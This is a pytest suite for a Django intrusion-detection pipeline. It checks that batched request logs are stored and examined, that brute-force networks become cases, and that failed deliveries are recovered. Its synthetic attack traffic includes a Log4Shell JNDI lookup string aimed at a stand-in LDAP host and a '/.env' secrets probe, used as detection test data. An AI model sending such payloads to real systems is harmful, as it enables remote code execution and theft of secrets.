"""The batch pipeline on a real database: store, examine, case, decision in the store."""

from __future__ import annotations

import os
import random
import subprocess
import sys
from collections.abc import Callable, Iterable
from contextlib import AbstractContextManager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from ip_tracking import tasks
from ip_tracking.detection import bursts
from ip_tracking.detection.rules import RULES
from ip_tracking.detection.symptoms import symptoms_of
from ip_tracking.event import Event, to_us
from ip_tracking.models import Batch, CaseFinding, RequestLog, SuspiciousIP
from ip_tracking.record.message import UnknownVersion, pack
from ip_tracking.record.storage import store
from metrics import client as metrics_client
from metrics import emit
from metrics.catalogue import DETECTOR_RUNS, EVENTS_DROPPED
from tests.dogstatsd import udp_receiver
from tests.metrics.conftest import send_to
from tests.traffic import ATTACKER, NOON, batch, event, failed_login, guessing

pytestmark = pytest.mark.django_db

Configure = Callable[..., object]
Commit = Callable[..., AbstractContextManager[Any]]


def found() -> set[tuple[Any, ...]]:
    rows = CaseFinding.objects.values_list("case__network", "rule", "hour", "count", "first_seen", "last_seen")
    return set(rows)


# A batch


def test_a_batch_of_guessed_passwords_makes_a_case() -> None:
    tasks.store_events(*batch(*guessing()))

    case = SuspiciousIP.objects.get()
    assert (case.network, case.top_rule, case.severity) == (ATTACKER, "login-brute-force", "high")
    assert RequestLog.objects.count() == 10
    assert Batch.objects.get().examined_at is not None


def test_harmless_traffic_makes_none() -> None:
    tasks.store_events(*batch(*[event(NOON + timedelta(seconds=second)) for second in range(200)]))

    assert RequestLog.objects.count() == 200
    assert not SuspiciousIP.objects.exists()


def test_a_rule_is_met_across_batches() -> None:
    for one in guessing():
        tasks.store_events(*batch(one))

    assert [row.count for row in CaseFinding.objects.filter(rule="login-brute-force")] == [10]


def test_what_a_detector_blocks_is_refused_at_the_door(
    tracking: Configure, django_capture_on_commit_callbacks: Commit
) -> None:
    tracking(ENFORCE="block")
    client = Client(REMOTE_ADDR=ATTACKER)
    assert client.get("/healthz-not-here").status_code == 404

    with django_capture_on_commit_callbacks(execute=True):
        tasks.store_events(*batch(*guessing(datetime.now(UTC) - timedelta(seconds=20))))

    refused = client.get("/healthz-not-here")
    assert refused.status_code == 403
    assert refused["Content-Type"] == "application/problem+json"
    assert Client(REMOTE_ADDR="198.51.100.4").get("/healthz-not-here").status_code == 404


def test_refused_requests_feed_nothing() -> None:
    """Else a client that we answer 429 would be flagged by our own answers. (But see tests/test_examination.py.)"""
    tasks.store_events(*batch(*[one._replace(refused="login", status=429) for one in guessing(times=50)]))

    assert RequestLog.objects.count() == 50
    assert not SuspiciousIP.objects.exists()


def test_events_from_a_clock_that_runs_ahead_are_dropped_and_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    with udp_receiver() as agent:
        send_to(monkeypatch, agent.environ)
        now = datetime.now(UTC)

        tasks.store_events(*batch(event(now + timedelta(minutes=4)), event(now + timedelta(hours=1))))
        tasks.store_events(*batch(event(now + timedelta(days=900))))
        emit.flush()

        assert RequestLog.objects.count() == 1
        assert Batch.objects.count() == 1
        assert agent.total(EVENTS_DROPPED, reason="future") == 2
        assert agent.total(DETECTOR_RUNS, detector="bursts", outcome="ok") == 1
        metrics_client.close()


def test_a_message_of_a_newer_version_is_refused_whole() -> None:
    with pytest.raises(UnknownVersion):
        tasks.store_events("0" * 32, pack([event()]) | {"version": 99})

    assert not Batch.objects.exists()


# Deliveries that fail


def killed_after_storing(at: datetime, *events: Event) -> tuple[str, Any]:
    """A worker stored this batch and was killed before it examined it."""
    batch_id, message = batch(*events)
    store(batch_id, list(events), symptoms_of, at)
    return batch_id, message


def test_a_redelivery_examines_what_a_killed_worker_only_stored() -> None:
    batch_id, message = killed_after_storing(NOON, *guessing())
    assert not SuspiciousIP.objects.exists()

    tasks.store_events(batch_id, message)

    assert SuspiciousIP.objects.get().network == ATTACKER
    assert RequestLog.objects.count() == 10
    assert Batch.objects.get().examined_at is not None


def test_the_sweep_examines_what_was_never_redelivered() -> None:
    killed_after_storing(NOON, *guessing())

    tasks.examine_abandoned(NOON + timedelta(minutes=6))

    assert SuspiciousIP.objects.get().network == ATTACKER
    assert Batch.objects.get().examined_at is not None


def test_a_batch_that_cannot_be_examined_does_not_hold_up_the_others(caplog: pytest.LogCaptureFixture) -> None:
    """A network that is none, as a row written by hand could hold."""
    earlier = to_us(NOON - timedelta(hours=2))
    spoilt = [one._replace(network="no network", at_us=earlier + place) for place, one in enumerate(guessing())]
    spoilt_id, _ = killed_after_storing(NOON, *spoilt)
    killed_after_storing(NOON, *guessing())

    tasks.examine_abandoned(NOON + timedelta(minutes=6))

    assert [str(row) for row in Batch.objects.filter(examined_at=None)] == [spoilt_id]
    assert SuspiciousIP.objects.get().network == ATTACKER
    assert "could not be examined" in caplog.text


def test_the_sweep_leaves_a_batch_that_is_in_work_alone() -> None:
    killed_after_storing(NOON, *guessing())

    tasks.examine_abandoned(NOON + timedelta(minutes=4))

    assert not SuspiciousIP.objects.exists()
    assert Batch.objects.get().examined_at is None


def test_a_batch_examined_once_is_not_examined_again() -> None:
    batch_id, message = batch(*guessing())
    tasks.store_events(batch_id, message)
    SuspiciousIP.objects.all().delete()

    tasks.store_events(batch_id, message)

    assert not SuspiciousIP.objects.exists()


def test_a_whole_sweep_runs_on_an_empty_log() -> None:
    assert tasks.sweep_hours() == "0 finding(s)"


WITHOUT_DATABASE = """
import django
django.setup()
from celery.exceptions import Reject
from ip_tracking import tasks
from ip_tracking.record.message import NotSent
from tests.traffic import batch, event
tasks.AWAY_PAUSE_S = 0
for deliver in (tasks.store_now, tasks.store_events):
    try:
        deliver(*batch(event()))
    except (NotSent, Reject) as error:
        print(type(error).__name__, getattr(error, "requeue", ""))
"""


def test_a_batch_outlives_a_database_that_is_away(tmp_path: Path) -> None:
    """The worker's goes back to its queue, the thread's into the spool: Celery's default would drop it."""
    (tmp_path / "a-file").touch()
    result = subprocess.run(
        [sys.executable, "-c", WITHOUT_DATABASE],
        env={**os.environ, "DATABASE_URL": f"sqlite:///{tmp_path}/a-file/nothing.sqlite3"},
        cwd=Path(__file__).parent.parent,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert result.stdout.splitlines() == ["NotSent ", "Reject True"], result.stderr


def test_what_hangs_goes_to_another_worker() -> None:
    """Celery confirms by default what it has just killed."""
    assert tasks.store_events.time_limit == tasks.STORE_LIMIT_S
    assert tasks.store_events.acks_late
    assert tasks.store_events.acks_on_timeout is False
    assert tasks.store_events.reject_on_worker_lost


# Order, batches, redelivery

NETWORKS = {"203.0.113.9": 6, "2001:db8:1:2::/64": 3, "203.0.113.10": 1, "198.51.100.77": 1}
LOGIN = {"method": "POST", "path": "/login", "kind": "login", "status": 401, "outcome": "login_failed"}
KINDS: list[tuple[int, dict[str, Any]]] = [
    (4, LOGIN | {"account": "ada"}),
    (2, LOGIN | {"account": "eve"}),
    (1, {"path": "/.env", "route": "", "status": 404}),
    (1, {"path": "/", "query": "x=${jndi:ldap://198.51.100.7/a}"}),
    (1, {"path": "/products/7"}),
    (6, {"path": "/missing-", "route": "", "status": 404}),
]


def random_events(chance: random.Random, number: int = 300) -> list[Event]:
    """Bursts on both sides of a full hour: most windows lie across the edges of batches, some across the hour."""
    weights, kinds = zip(*KINDS, strict=True)
    networks = chance.choices(list(NETWORKS), list(NETWORKS.values()), k=number)
    events = []
    for network, fields in zip(networks, chance.choices(kinds, weights, k=number), strict=True):
        at = NOON + timedelta(minutes=chance.choice([-40, -1, 3, 61]), seconds=chance.randrange(90))
        distinct = chance.choice("abcdefghijklmnopqrstuvw") if fields["path"].endswith("-") else ""
        events.append(event(at, network, **(fields | {"path": fields["path"] + distinct})))
    return events


def in_random_batches(chance: random.Random, events: Iterable[Event]) -> list[tuple[str, Any]]:
    left, batches = list(events), []
    chance.shuffle(left)
    while left:
        size = chance.randrange(1, 60)
        batches.append(batch(*left[:size]))
        left = left[size:]
    batches += chance.sample(batches, len(batches) // 3)
    chance.shuffle(batches)
    return batches


@pytest.mark.parametrize("seed", range(6))
def test_findings_depend_on_the_events_alone(seed: int) -> None:
    """Not on how they were cut into batches, in what order these came, or how often one was delivered."""
    chance = random.Random(seed)
    events = random_events(chance)

    for batch_id, message in in_random_batches(chance, events):
        tasks.store_events(batch_id, message)

    at_once = bursts.find([one._replace(symptoms=symptoms_of(one)) for one in events], RULES)
    expected = {(f.network, f.rule, f.hour_us, f.count, f.first_seen_us, f.last_seen_us) for f in at_once}
    assert {(n, rule, to_us(hour), count, to_us(a), to_us(b)) for n, rule, hour, count, a, b in found()} == expected
    assert len({finding[1] for finding in expected}) >= 3
    assert len({finding[2] for finding in expected}) >= 2


def test_many_events_of_many_networks_are_each_others_business_only_by_network() -> None:
    neighbour = guessing(network="203.0.113.8", times=4)
    tasks.store_events(*batch(*guessing(times=5), *neighbour))

    assert not SuspiciousIP.objects.exists()

    tasks.store_events(*batch(failed_login(NOON + timedelta(seconds=6))))

    assert [row.case.network for row in CaseFinding.objects.all()] == [ATTACKER]
